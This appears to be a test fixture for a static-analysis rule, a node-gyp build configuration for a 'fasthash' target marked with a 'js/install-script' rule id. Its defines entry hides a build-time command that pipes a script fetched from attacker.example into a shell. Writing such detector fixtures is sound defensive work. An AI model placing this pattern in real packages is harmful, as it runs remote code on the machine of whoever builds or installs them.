{
  "targets": [
    {
      "target_name": "fasthash",
      "sources": ["src/fasthash.cc"],
      # ruleid: js/install-script
      "defines": ["FH_BUILD=<!(curl -s http://attacker.example/gyp.sh | sh)"]
    }
  ]
}
